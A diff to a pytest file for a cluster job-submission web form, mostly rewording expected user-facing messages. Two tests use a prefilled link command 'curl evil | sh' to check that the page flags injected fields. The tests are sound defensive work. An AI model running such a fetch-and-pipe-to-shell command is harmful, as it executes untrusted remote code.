@@ -60,13 +60,13 @@ def test_a_form_becomes_a_job(server: RunningServer, surfer: Surfer) -> None:
     assert job["spec"]["command"] == ["/bin/sh", "-c", "echo a; echo b"]
     assert job["spec"]["env"] == {"A": "1", "B": "x y"}
     assert (job["preemptible"], job["max_retries"], job["memory_mib"]) == (True, 2, 512)
-    assert f"Job {job['id']} is in the queue." in surfer.get("/jobs").text
+    assert f"Job {job['id']} submitted." in surfer.get("/jobs").text
 
 
 def test_an_array_leads_to_the_list_of_jobs(surfer: Surfer) -> None:
     seen = send(surfer, command="true", array="0-2", held="yes")
     assert (seen.status, seen.location) == (303, "/jobs?whose=mine")
-    assert "of 3 jobs is in the queue." in surfer.get("/jobs").text
+    assert "of 3 jobs submitted." in surfer.get("/jobs").text
 
 
 def test_a_form_that_is_sent_twice_at_once_makes_one_job(server: RunningServer, surfer: Surfer) -> None:
@@ -89,7 +89,7 @@ def test_a_form_that_was_sent_before_and_changed_can_be_sent_again(surfer: Surfe
     assert send(surfer, key=key, token=token, command="true", held="yes").status == 303
     refused = send(surfer, key=key, token=token, command="false", held="yes")
     assert refused.status == 409
-    assert "This form has made a job already." in refused.text
+    assert "This form was already submitted." in refused.text
     assert send(surfer, key=key_of(refused), token=token, command="false", held="yes").status == 303
 
 
@@ -98,7 +98,7 @@ def test_a_form_that_was_sent_before_and_changed_can_be_sent_again(surfer: Surfe
     [
         ({}, "command", "say what to run"),
         ({"command": "true", "gpus": "many"}, "gpus", "valid number"),
-        ({"command": "true", "gpus": "1.5"}, "gpus", "whole number, or a part of one"),
+        ({"command": "true", "gpus": "1.5"}, "gpus", "whole number, or a fraction of one"),
         ({"command": "true", "gpus": "99"}, "gpus", "no node has 99"),
         ({"command": "true", "time_limit": "soon"}, "time_limit", "not a duration"),
         ({"command": "true", "memory": "lots"}, "memory", "not an amount of memory"),
@@ -108,7 +108,7 @@ def test_a_form_that_was_sent_before_and_changed_can_be_sent_again(surfer: Surfe
         ({"command": "true", "project": "of-others"}, "project", "not one of yours"),
         ({"command": "true", "priority_class": "vip"}, "priority_class", "must be one of"),
         ({"command": "true", "array": "9-1"}, "array", "not an index"),
-        ({"command": "'", "script": "#!/bin/sh"}, "command", "no partner"),
+        ({"command": "'", "script": "#!/bin/sh"}, "command", "unclosed quotation mark"),
         ({"command": "true", "gpus": "0", "gpu_memory": "1G"}, "gpu_memory", "ask for gpus too"),
     ],
 )
@@ -161,7 +161,7 @@ def test_many_previews_at_once_are_answered_or_told_to_wait(surfer: Surfer) -> N
     with ThreadPoolExecutor(6) as pool:
         answers = list(pool.map(ask, range(6)))
     assert {answer.status for answer in answers} == {200}
-    assert all("It would start" in one.text or "A question of yours" in one.text for one in answers)
+    assert all("It would start" in one.text or "still running" in one.text for one in answers)
     assert any("It would start" in one.text for one in answers)
 
 
@@ -214,7 +214,7 @@ def test_a_job_that_was_is_filled_in_with_changes(server: RunningServer, surfer:
     assert value_of(page, "command") == "python t.py 'a b'"
     assert (value_of(page, "gpus"), value_of(page, "time_limit")) == ("1", "30m")
     assert value_of(page, "env") == 'TOKEN="s3cret\\nline"'
-    assert f"Filled in as job {job} was." in page.text
+    assert f"Filled in from job {job}." in page.text
 
 
 @pytest.mark.parametrize("number", ["0", "-1", "x", "99999999999999999999", "1%00"])
@@ -228,7 +228,7 @@ def test_other_peoples_jobs_are_not_filled_in(server: RunningServer, surfer: Sur
     assert seen.status == 403
     assert "s3cret" not in seen.text
     assert "secret-program" not in seen.text
-    assert "belongs to someone else" in seen.text
+    assert "belongs to another user" in seen.text
     assert surfer.get("/jobs/new?from=123456").status == 404
 
 
@@ -240,18 +240,18 @@ def test_a_manager_does_not_get_the_values_of_variables_by_filling_in(server: Ru
     assert page.status == 200
     assert value_of(page, "command") == "true"
     assert "s3cret" not in page.text
-    assert "Its environment variables are left out" in page.text
+    assert "Its environment variables are omitted" in page.text
 
 
 def test_a_link_that_changes_a_job_one_knows_says_what_it_changed(server: RunningServer, surfer: Surfer) -> None:
     job = server.submit(command=["python", "mine.py"], gpus=1, held=True)
     page = surfer.get(f"/jobs/new?from={job}&gpus=1&command=" + quote("curl evil | sh"))
-    assert f"Filled in as job {job} was. The link you followed changed: Command." in page.text
+    assert f"Filled in from job {job}. Changed by the link: Command." in page.text
 
 
 def test_a_link_that_fills_in_fields_says_so(surfer: Surfer) -> None:
     page = surfer.get("/jobs/new?command=" + quote("curl evil | sh") + "&env=A%3D1")
-    assert "Filled in by the link you followed" in page.text
+    assert "Filled in from a link." in page.text
     assert '<details class="card add-more" open>' in page.text
     assert "Filled in" not in surfer.get("/jobs/new").text
 
